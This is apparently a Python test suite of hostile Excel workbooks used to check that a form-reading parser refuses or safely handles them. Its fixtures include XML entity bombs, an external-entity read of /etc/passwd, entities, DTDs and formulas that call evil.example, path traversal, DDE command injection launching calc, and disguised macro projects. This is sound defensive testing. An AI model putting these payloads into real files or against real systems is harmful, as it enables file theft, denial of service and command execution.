"""Workbooks whose XML bombs, loops, lies or carries what no form has."""

import random
import re
import struct
from collections.abc import Callable

from tests.hostile.making import (
    ASKED,
    GOOD,
    OFFICE,
    Edit,
    Entry,
    Hostile,
    edited,
    entries,
    good,
    pack,
    parts,
    replacing,
    shared,
)
from tests.world import bad_files

_SHEET = "xl/worksheets/sheet2.xml"
_BOOK = "xl/workbook.xml"
_RELATIONS = "xl/_rels/workbook.xml.rels"
_TYPES = "[Content_Types].xml"
_STRINGS = "xl/sharedStrings.xml"
_LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%b">' % (98 + level, b"&%c;" % (97 + level) * 10) for level in range(20)
) + b"]>"  # fmt: skip
_COMPANY = b"Harbour Books Ltd"


def _sheet(change: Edit) -> Callable[[], bytes]:
    return lambda: edited({_SHEET: change})


def _book(change: Edit) -> Callable[[], bytes]:
    return lambda: edited({_BOOK: change})


def _headed(text: bytes) -> Callable[[bytes], bytes]:
    """Put ``text`` before the root element."""
    return lambda content: text + re.sub(rb"\A<\?xml[^>]*>\s*", b"", content)


def _answer_cell(content: bytes) -> bytes:
    """Return the cell of the company's name."""
    found = re.search(rb'<c r="D27"(?:(?!</c>).)*</c>', content)
    assert found is not None
    return found.group()


def _company(new: bytes) -> Callable[[bytes], bytes]:
    """Replace the cell of the company's name."""
    return lambda content: content.replace(_answer_cell(content), new)


def _more_cells(more: bytes) -> Callable[[bytes], bytes]:
    return replacing(b"</sheetData>", more + b"</sheetData>")


def _rows(count: int, cell: bytes) -> bytes:
    return b"".join(b'<row r="%d">%b</row>' % (n, cell) for n in range(1000, 1000 + count))


def _string_index(index: bytes) -> Callable[[], bytes]:
    """Let the cell of the company's name point to another shared string."""

    def change(content: bytes) -> bytes:
        return re.sub(
            rb'(<c r="D27"[^>]*t="s"[^>]*><v>)\d+(</v>)', rb"\g<1>" + index + rb"\g<2>", content
        )

    return lambda: edited({_SHEET: change}, shared)


def _noise(seed: int) -> bytes:
    """Return four million letters and digits that do not pack well."""
    return random.Random(seed).randbytes(2_000_000).hex().encode()


def _deep(count: int) -> bytes:
    return b"<x>" * count + b"</x>" * count


def _many_sheets(count: int, *, names: bool = True) -> bytes:
    """Return our workbook with more sheets, all of them the first one."""
    one = b'<sheet name="%d" sheetId="9" r:id="rId1" xmlns:r="' + OFFICE[:-1] + b'"/>'
    more = b"".join(one % n for n in range(count)) + b"</sheets>"

    def change(content: bytes) -> bytes:
        found = content.replace(b"</sheets>", more)
        return found if names else re.sub(b"<definedNames>.*</definedNames>", b"", found)

    return edited({_BOOK: change})


def _cyclic_relations() -> bytes:
    def loop(content: bytes) -> bytes:
        return content.replace(b"worksheets/sheet2.xml", b"workbook.xml")

    return edited({_RELATIONS: loop, "xl/_rels/_rels/workbook.xml.rels.rels": b"<Relationships/>"})


def _strict() -> bytes:
    """Return our workbook in the strict dialect (ECMA-376 part 1)."""
    found = {
        name: content.replace(
            b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
            b"http://purl.oclc.org/ooxml/spreadsheetml/main",
        ).replace(
            b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
            b"http://purl.oclc.org/ooxml/officeDocument/relationships",
        )
        for name, content in parts(good()).items()
    }
    return pack(entries(found))


def _office(folder: str, main: str) -> bytes:
    kind = f"application/vnd.openxmlformats-officedocument.{main}.main+xml".encode()
    types = b'<Types><Override PartName="/%b" ContentType="%b"/></Types>'
    return pack([
        Entry(_TYPES.encode(), types % (folder.encode(), kind)),
        Entry(f"{folder}/document.xml".encode(), b"<x/>"),
    ])  # fmt: skip


def _open_document(kind: bytes) -> bytes:
    mimetype = b"application/vnd.oasis.opendocument." + kind
    return pack([Entry(b"mimetype", mimetype, method=0), Entry(b"content.xml", b"<x/>")])


def _numbers() -> bytes:
    return pack([Entry(b"Index/Document.iwa", b"x"), Entry(b"preview.jpg", b"\xff\xd8\xff")])


def _compound(*streams: str) -> bytes:
    """Return an OLE file with a directory of ``streams`` (MS-CFB)."""
    raw = bytearray(bad_files.encrypted_workbook())
    for number, name in enumerate(streams, start=1):
        at = 1024 + 128 * number
        encoded = name.encode("utf-16-le") + b"\0\0"
        raw[at : at + 64] = encoded.ljust(64, b"\0")
        struct.pack_into("<H", raw, at + 64, len(encoded))
    return bytes(raw)


def _renamed_macro() -> bytes:
    """Return our workbook with a macro project under an innocent name and type."""
    return edited({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)})


def _renamed_project() -> bytes:
    """Return our workbook with a macro project that only its relation names."""
    relation = b'<Relationship Id="rId77" Target="printer.bin" Type="'
    relation += b'http://schemas.microsoft.com/office/2006/relationships/vbaProject"/>'
    return edited({
        "xl/printer.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        _RELATIONS: replacing(b"</Relationships>", relation + b"</Relationships>"),
    })  # fmt: skip


def _macro_sheet() -> bytes:
    relation = b'<Relationship Id="rId78" Target="macrosheets/sheet1.xml" Type="'
    relation += b'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"/>'
    return edited({
        "xl/macrosheets/sheet1.xml": b'<xm:macrosheet xmlns:xm="x"/>',
        _RELATIONS: replacing(b"</Relationships>", relation + b"</Relationships>"),
    })  # fmt: skip


def _external_book() -> bytes:
    relation = b'<Relationship Id="rId79" Target="http://evil.example/x.xlsx" TargetMode='
    relation += b'"External" Type="%bexternalLinkPath"/></Relationships>' % OFFICE
    return edited({_RELATIONS: replacing(b"</Relationships>", relation)})


def _name(target: bytes) -> Callable[[], bytes]:
    """Let the name of the company's cell point elsewhere."""
    return _book(
        lambda content: re.sub(
            rb'(<definedName name="fld_company_legal_name">)[^<]*', rb"\g<1>" + target, content
        )
    )


def _without_column_of_keys(content: bytes) -> bytes:
    return re.sub(rb'<c r="G\d+"(?:(?!</c>).)*</c>', b"", content)


def _named_only(target: bytes) -> Callable[[], bytes]:
    """Do the same where neither keys nor the head of the answers can correct it."""
    return lambda: edited({
        _SHEET: _without_column_of_keys,
        _BOOK: lambda content: re.sub(
            rb'(<definedName name="fld_company_legal_name">)[^<]*', rb"\g<1>" + target, content
        ),
    })  # fmt: skip


def _two_named_alike() -> bytes:
    other = parts(good())[_SHEET].replace(_COMPANY, b"Harbour Bombs Ltd")
    relation = b'<Relationship Id="rId9" Target="worksheets/sheet9.xml" Type="%bworksheet"/>'
    found = re.search(rb'<sheet [^>]*name="([^"]*)"[^>]*r:id="rId2"/>', parts(good())[_BOOK])
    assert found is not None
    again = found.group().replace(b"rId2", b"rId9")
    return edited({
        "xl/worksheets/sheet9.xml": other,
        _RELATIONS: replacing(b"</Relationships>", relation % OFFICE + b"</Relationships>"),
        _BOOK: replacing(found.group(), again + found.group()),
    })  # fmt: skip


def _formula(text: bytes, value: bytes = b"Harbour Books Ltd") -> Callable[[], bytes]:
    return _sheet(_company(b'<c r="D27" t="str"><f>' + text + b"</f><v>" + value + b"</v></c>"))


def _swapped_cells(content: bytes) -> bytes:
    """Swap the places of two answers in the XML: their rows no longer agree."""
    return (
        content.replace(b'r="D27"', b'r="D?"').replace(b'r="D29"', b'r="D27"')
        .replace(b'r="D?"', b'r="D29"')
    )  # fmt: skip


def _utf7(content: bytes) -> bytes:
    return b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-' + content


WORKBOOKS = (
    # entities and document types
    Hostile("billion laughs", "form.xlsx", _sheet(_headed(_LAUGHS)), "file_refused"),
    Hostile("billion laughs in the workbook part", "form.xlsx", _book(_headed(_LAUGHS)),
            "file_refused"),
    Hostile("quadratic entity", "form.xlsx", _sheet(_headed(
        b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 100_000 + b'">]>')), "file_refused"),
    Hostile("external entity", "form.xlsx", _sheet(_headed(
        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>')), "file_refused"),
    Hostile("parameter entity from the net", "form.xlsx", _sheet(_headed(
        b'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/"> %a;]>')), "file_refused"),
    Hostile("external document type", "form.xlsx", _sheet(_headed(
        b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">')), "file_refused"),
    Hostile("document type in UTF-16", "form.xlsx", _sheet(
        lambda c: ('<?xml version="1.0" encoding="UTF-16"?>' + _LAUGHS.decode() + c.decode())
        .encode("utf-16")), "file_refused"),
    Hostile("document type in the relations", "form.xlsx",
            lambda: edited({_RELATIONS: _headed(_LAUGHS)}), "file_refused"),
    Hostile("document type in the styles, which texts do not need", "form.xlsx",
            lambda: edited({"xl/styles.xml": _headed(_LAUGHS)}), GOOD),
    Hostile("document type in the properties", "form.xlsx",
            lambda: edited({"docProps/custom.xml": _headed(_LAUGHS)}), "file_refused"),
    Hostile("document type in the shared strings", "form.xlsx",
            lambda: edited({_STRINGS: _headed(_LAUGHS)}, shared), "file_refused"),
    Hostile("sheet in UTF-16", "form.xlsx", _sheet(
        lambda c: ('<?xml version="1.0" encoding="UTF-16"?>' + c.decode()).encode("utf-16")), GOOD),
    Hostile("sheet in UTF-7", "form.xlsx", _sheet(_utf7), "file_damaged"),
    Hostile("sheet in EBCDIC", "form.xlsx", _sheet(
        lambda c: ('<?xml version="1.0" encoding="cp037"?>' + c.decode())
        .encode("cp037", "xmlcharrefreplace")),
        "file_damaged"),
    Hostile("sheet in UTF-32", "form.xlsx", _sheet(lambda c: c.decode().encode("utf-32")),
            "file_damaged"),
    Hostile("undeclared entity", "form.xlsx", _sheet(replacing(_COMPANY, b"&company;")),
            "file_damaged"),
    # size
    Hostile("a million cells", "form.xlsx", _sheet(_more_cells(_rows(
        1_000_000 // 20, b"<c><v>1</v></c>" * 20))), "file_refused"),
    Hostile("300,000 empty rows", "form.xlsx", _sheet(_more_cells(
        b"".join(
            b'<row r="%d"><c r="A%d" s="1"/></row>' % (n, n) for n in range(1000, 301_000)))),
        GOOD),
    Hostile("cells in all corners", "form.xlsx", _sheet(_more_cells(
        b'<row r="1048576"><c r="A1048576"><v>1</v></c><c r="XFD1048576"><v>1</v></c></row>')),
        GOOD),
    Hostile("cell beyond the last column", "form.xlsx", _sheet(_more_cells(
        b'<row r="9999999"><c r="ZZZ9999999"><v>1</v></c></row>')), GOOD),
    Hostile("a million shared strings", "form.xlsx", lambda: edited(
        {_STRINGS: lambda c: c.replace(b"</sst>", b"".join(
            b"<si><t>%x</t></si>" % n for n in range(900_000)) + b"</sst>")},
        shared), "file_refused"),
    Hostile("five million elements", "form.xlsx", _sheet(replacing(
        b"</worksheet>", b"<x/>" * 4_900_000 + b"</worksheet>")), "file_refused"),
    Hostile("a million elements", "form.xlsx", _sheet(replacing(b"</worksheet>", b"".join(
        b"<x%x/>" % (n & 0xFFFF) for n in range(1_000_000)) + b"</worksheet>")), "file_refused"),
    Hostile("900,000 elements", "form.xlsx", _sheet(replacing(b"</worksheet>", b"".join(
        b"<x%x/>" % (n & 0xFFFF) for n in range(900_000)) + b"</worksheet>")), GOOD),
    Hostile("shared string of 4 MB", "form.xlsx", lambda: edited(
        {_STRINGS: lambda c: c.replace(b"</sst>", b"<si><t>%b</t></si></sst>" % _noise(4))},
        shared), GOOD),
    Hostile("100,000 sheets", "form.xlsx", lambda: _many_sheets(100_000), "file_refused"),
    Hostile("900 sheets without names", "form.xlsx",
            lambda: _many_sheets(900, names=False), GOOD),
    Hostile("100,000 names", "form.xlsx", _book(replacing(
        b"</definedNames>", b"".join(b'<definedName name="n%d">Form!$A$1</definedName>' % n
                                     for n in range(100_000)) + b"</definedNames>")), GOOD),
    Hostile("100,000 attributes", "form.xlsx", _sheet(replacing(
        b"<sheetData>", b"<sheetData " + b" ".join(b'a%d=""' % n for n in range(100_000)) + b">")),
        GOOD),
    Hostile("attribute of 4 MB", "form.xlsx", _sheet(replacing(
        b"<sheetData>", b'<sheetData a="%b">' % _noise(5))), GOOD),
    Hostile("nesting 100,000 deep", "form.xlsx", _sheet(replacing(
        b"</worksheet>", _deep(100_000) + b"</worksheet>")), GOOD),
    Hostile("nesting 100,000 deep in the properties", "form.xlsx", lambda: edited(
        {"docProps/custom.xml": replacing(b"</Properties>", _deep(100_000) + b"</Properties>")}),
        "file_refused"),
    Hostile("text of 100,000 characters", "form.xlsx", _sheet(_company(
        b'<c r="D27" t="str"><v>' + b"x" * 100_001 + b"</v></c>")), ASKED),
    Hostile("number of 90,000 digits", "form.xlsx", _sheet(_more_cells(
        b'<row r="999"><c r="A999"><v>' + b"9" * 90_000 + b"</v></c></row>")), GOOD),
    # shared strings
    Hostile("shared strings", "form.xlsx", shared, GOOD),
    Hostile("shared string out of range", "form.xlsx", _string_index(b"99999"), "file_damaged"),
    Hostile("shared string number huge", "form.xlsx", _string_index(b"9" * 40), "file_damaged"),
    Hostile("shared string number negative", "form.xlsx", _string_index(b"-1"), "file_damaged"),
    Hostile("shared string number broken", "form.xlsx", _string_index(b"1.5"), "file_damaged"),
    Hostile("shared strings gone", "form.xlsx", lambda: edited({_STRINGS: None}, shared),
            "file_damaged"),
    # XML that is none
    Hostile("NUL in the sheet", "form.xlsx", _sheet(replacing(_COMPANY, b"Harbour\0Books")),
            "file_damaged"),
    Hostile("control character in the sheet", "form.xlsx",
            _sheet(replacing(_COMPANY, b"Harbour\x02Books")), "file_damaged"),
    Hostile("broken UTF-8 in the sheet", "form.xlsx",
            _sheet(replacing(_COMPANY, b"Harbour \xff\xfe Books")), "file_damaged"),
    Hostile("sheet cut in half", "form.xlsx", _sheet(lambda c: c[: len(c) // 2]), "file_damaged"),
    Hostile("two roots in the sheet", "form.xlsx", _sheet(lambda c: c + c), "file_damaged"),
    Hostile("sheet of HTML", "form.xlsx", _sheet(b"<html><body>x<br></body></html>"),
            "file_damaged"),
    Hostile("empty sheet part", "form.xlsx", _sheet(b""), "file_damaged"),
    # structure
    Hostile("no sheet part", "form.xlsx", _sheet(None), "file_damaged"),
    Hostile("no workbook part", "form.xlsx", _book(None), "file_damaged"),
    Hostile("no relations", "form.xlsx", lambda: edited({"_rels/.rels": None}), "file_damaged"),
    Hostile("no relations of the workbook", "form.xlsx", lambda: edited({_RELATIONS: None}),
            "file_damaged"),
    Hostile("no content types", "form.xlsx", lambda: edited({_TYPES: None}), "file_other:unknown"),
    Hostile("no styles", "form.xlsx", lambda: edited({"xl/styles.xml": None}), GOOD),
    Hostile("relations in a circle", "form.xlsx", _cyclic_relations, "file_damaged"),
    Hostile("workbook part on the net", "form.xlsx", lambda: edited({"_rels/.rels": replacing(
        b"xl/workbook.xml", b"http://evil.example/workbook.xml")}), "file_damaged"),
    Hostile("sheet on the net", "form.xlsx", lambda: edited({_RELATIONS: replacing(
        b"worksheets/sheet2.xml", b"http://evil.example/sheet2.xml")}), "file_damaged"),
    Hostile("sheet outside of the package", "form.xlsx", lambda: edited({_RELATIONS: replacing(
        b"worksheets/sheet2.xml", b"../../../etc/passwd")}), "file_damaged"),
    Hostile("sheet that is the styles", "form.xlsx", lambda: edited({_RELATIONS: replacing(
        b"worksheets/sheet2.xml", b"styles.xml")}), "file_damaged"),
    Hostile("two sheets of one name", "form.xlsx", _two_named_alike, "file_damaged"),
    Hostile("external workbook", "form.xlsx", _external_book, GOOD),
    Hostile("strict dialect", "form.xlsx", _strict, GOOD),
    Hostile("days since 1904", "form.xlsx", _book(replacing(
        b"<workbookPr/>", b'<workbookPr date1904="1"/>')), GOOD),
    # names
    Hostile("name to #REF!", "form.xlsx", _name(b"#REF!"), GOOD),
    Hostile("name to itself", "form.xlsx", _name(b"fld_company_legal_name"), GOOD),
    Hostile("name to another file", "form.xlsx", _name(b"[1]Form!$D$14"), GOOD),
    Hostile("name to a file on the net", "form.xlsx",
            _name(b"'http://evil.example/[x.xlsx]Form'!$D$14"), GOOD),
    Hostile("name to a whole column", "form.xlsx", _name(b"Form!$D:$D"), GOOD),
    Hostile("name to everything", "form.xlsx", _name(b"Form!$A$1:$XFD$1048576"), ASKED),
    Hostile("name to another answer", "form.xlsx", _name(b"Form!$D$15"), ASKED),
    Hostile("name to a row beyond", "form.xlsx", _name(b"Form!$D$9999999"), GOOD),
    Hostile("name to a formula", "form.xlsx", _name(b'INDIRECT("Form!D"&amp;14)'), GOOD),
    Hostile("name to #REF! without keys", "form.xlsx", _named_only(b"#REF!"), GOOD),
    # cells
    Hostile("cell twice", "form.xlsx", _sheet(lambda c: _company(
        _answer_cell(c) + _answer_cell(c).replace(b"Books", b"Bombs"))(c)), "file_damaged"),
    Hostile("two cells swapped", "form.xlsx", _sheet(_swapped_cells), "file_damaged"),
    Hostile("cell of a type that is none", "form.xlsx", _sheet(_company(
        b'<c r="D27" t="z"><v>7</v></c>')), "file_damaged"),
    Hostile("cell that links a program (DDE)", "form.xlsx",
            _formula(b"cmd|'/C calc'!A0"), GOOD),
    Hostile("cell with HYPERLINK", "form.xlsx",
            _formula(b'HYPERLINK("http://evil.example","x")'), GOOD),
    Hostile("cell with WEBSERVICE", "form.xlsx",
            _formula(b'WEBSERVICE("http://evil.example/"&amp;A1)'), GOOD),
    # macros and other formats
    Hostile("macros", "form.xlsm", bad_files.workbook_with_macros, "file_macro"),
    Hostile("macros named xlsx", "form.xlsx", bad_files.workbook_with_macros, "file_macro"),
    Hostile("macro project in an xlsx", "form.xlsx", _renamed_macro, "file_macro"),
    Hostile("macro project under another name", "form.xlsx", _renamed_project, "file_macro"),
    Hostile("sheet of Excel 4 macros", "form.xlsx", _macro_sheet, "file_macro"),
    Hostile("binary workbook", "form.xlsb", lambda: pack([
        Entry(_TYPES.encode(), b"<Types/>"), Entry(b"xl/workbook.bin", b"x")]),
        "file_type:xlsb"),
    Hostile("workbook with a password", "form.xlsx", bad_files.encrypted_workbook,
            "file_password"),
    Hostile("old workbook", "form.xls", lambda: _compound("Workbook", ""), "file_type:excel_97"),
    Hostile("old workbook named xlsx", "form.xlsx", lambda: _compound("Book", ""),
            "file_type:excel_97"),
    Hostile("old document named xlsx", "form.xlsx", lambda: _compound("WordDocument", ""),
            "file_other:word"),
    Hostile("compound file of nothing", "form.xls", lambda: _compound("x", ""),
            "file_other:unknown"),
    Hostile("head of a compound file", "form.xls",
            lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "file_other:unknown"),
    Hostile("docx named xlsx", "form.xlsx",
            lambda: _office("word", "wordprocessingml.document"), "file_other:word"),
    Hostile("pptx named xlsx", "form.xlsx",
            lambda: _office("ppt", "presentationml.presentation"), "file_other:unknown"),
    Hostile("ods", "form.ods", lambda: _open_document(b"spreadsheet"), "file_type:opendocument"),
    Hostile("ods named xlsx", "form.xlsx", lambda: _open_document(b"spreadsheet"),
            "file_type:opendocument"),
    Hostile("Numbers", "form.numbers", _numbers, "file_type:numbers"),
    Hostile("csv", "form.csv", lambda: "会社名,さくら\r\n".encode("cp932"), "file_other:csv"),
    Hostile("csv named xlsx", "form.xlsx", lambda: b"company,Harbour\r\n" * 9,
            "file_other:unknown"),
    Hostile("csv with a command", "form.csv", lambda: b"=cmd|'/C calc'!A0,1\r\n", "file_other:csv"),
    Hostile("HTML named xls", "form.xls", lambda: b"<html><table><tr><td>x</table></html>",
            "file_other:unknown"),
    Hostile("workbook inside a workbook", "form.xlsx",
            lambda: edited({"xl/embeddings/a.xlsx": good()}), GOOD),
)  # fmt: skip
